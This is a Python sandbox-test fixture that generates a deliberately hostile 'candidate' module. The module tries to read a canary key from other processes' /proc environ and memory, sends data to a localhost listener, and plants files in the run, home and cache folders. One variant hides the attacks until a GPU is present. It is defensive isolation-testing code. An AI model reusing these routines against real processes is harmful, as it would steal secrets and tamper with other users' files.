"""A candidate that tries to steal the key and get out, run by the sandbox tests.

``hostile_source(...)`` is a candidate module whose module-level code (run by a build worker's
import, and again by a GPU worker's load) makes each attack below, prints one ``evokernel-attack NAME: what happened`` line for each, and raises
RuntimeError("evokernel-attacks: NAME=OUTCOME ...") (so the build fails, and the GPU worker's
verdict names each outcome). OUTCOME is "blocked-<error type>" when the attack raised, "nokey"
when it read something without the key, and "LEAKED" when it got the key, reached the
listener, or wrote its file.

Attacks: ``environ`` (the key holder's /proc/<pid>/environ), ``environ_any`` (every visible
process's environ), ``mem`` (the key holder's /proc/<pid>/mem, its writable regions per
/proc/<pid>/maps), ``connect`` (a TCP listener on 127.0.0.1), ``write_run`` (a new file and an
appended line in the run folder), ``write_home`` (a new file in $HOME of the key holder),
``write_cache`` (a new file in the build cache and a planted peaks file).
"""
from __future__ import annotations

import re

ATTACKS = ("environ", "environ_any", "mem", "connect", "write_run", "write_home", "write_cache")
SUMMARY = re.compile(r"evokernel-attacks: ((?:\w+=[\w-]+ ?)+)")

_TEMPLATE = r'''
import os, socket
HOLDER, CANARY, PORT = {holder}, {canary!r}, {port}
RUN, HOME, CACHE = {run!r}, {home!r}, {cache!r}
seen = {{}}


def attempt(name, fn):
    try:
        what = fn()
        seen[name] = "LEAKED" if what.startswith("LEAKED") else "nokey"
    except Exception as e:
        what = f"blocked: {{type(e).__name__}}: {{e}}"
        seen[name] = f"blocked-{{type(e).__name__}}"
    print(f"evokernel-attack {{name}}: {{what}}"[:250], flush=True)


def environ():
    with open(f"/proc/{{HOLDER}}/environ", "rb") as f:
        return "LEAKED: the key" if CANARY.encode() in f.read() else "read, no key"


def environ_any():
    read = 0
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                data = f.read()
        except OSError:
            continue
        read += 1
        if CANARY.encode() in data:
            return f"LEAKED: the key, from pid {{pid}}"
    return f"read {{read}} environments, no key"


def mem():
    budget = 256 << 20
    with open(f"/proc/{{HOLDER}}/maps") as maps, open(f"/proc/{{HOLDER}}/mem", "rb", 0) as m:
        for line in maps:
            span, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in span.split("-"))
            if not perms.startswith("rw") or budget <= 0:
                continue
            try:
                m.seek(lo)
                data = m.read(min(hi - lo, budget))
            except OSError:
                continue
            budget -= len(data)
            if CANARY.encode() in data:
                return "LEAKED: the key, from memory"
    return "read, no key"


def connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(b"exfiltrated")
    return "LEAKED: connected and sent"


def write_run():
    with open(os.path.join(RUN, "planted.txt"), "x") as f:
        f.write("planted")
    names = sorted(n for n in os.listdir(RUN) if os.path.isfile(os.path.join(RUN, n)))
    with open(os.path.join(RUN, names[0]), "ab") as f:
        f.write(b"planted")
    return "LEAKED: wrote into the run folder"


def write_home():
    with open(os.path.join(HOME, "planted.txt"), "x") as f:
        f.write("planted")
    return "LEAKED: wrote into $HOME"


def write_cache():
    with open(os.path.join(CACHE, "planted.txt"), "x") as f:
        f.write("planted")
    os.makedirs(os.path.join(CACHE, "peaks"), exist_ok=True)
    with open(os.path.join(CACHE, "peaks", "planted.json"), "w") as f:
        f.write('{{"planted": true}}')
    return "LEAKED: wrote into the cache"


def run_attacks():
    for name in {attacks!r}:
        attempt(name, globals()[name])
    raise RuntimeError("evokernel-attacks: " + " ".join(f"{{k}}={{v}}" for k, v in seen.items()))

'''


_ANYWHERE = "run_attacks()\n"
#: Attacks only where a GPU is visible (the GPU worker; a build sees none), after checking that
#: CUDA works there; the build then succeeds, as the module defines ModelNew (a + b).
_ON_GPU = """
import torch
if torch.cuda.is_available():
    seen["cuda"] = "ok" if torch.ones(4, device="cuda").sum().item() == 4 else "wrong"
    run_attacks()


class ModelNew(torch.nn.Module):
    def forward(self, a, b):
        return a + b
"""


def hostile_source(*, holder_pid: int, canary: str, port: int, run_dir: str, home: str,
                   cache_dir: str, only_on_gpu: bool = False) -> str:
    """The hostile candidate's source (see the module docstring). ``only_on_gpu``: attack only
    where CUDA is available, after checking that it works ("cuda" in the summary); elsewhere the
    module is a plain a + b ModelNew, so its build passes and the GPU worker runs it."""
    body = _TEMPLATE.format(holder=holder_pid, canary=canary, port=port, run=run_dir,
                            home=home, cache=cache_dir, attacks=ATTACKS)
    return body + (_ON_GPU if only_on_gpu else _ANYWHERE)


def outcomes(text: str) -> dict[str, str]:
    """NAME -> OUTCOME from the summary in a build log or verdict detail; {} without one."""
    found = SUMMARY.search(text)
    return dict(kv.split("=", 1) for kv in found.group(1).split()) if found else {}

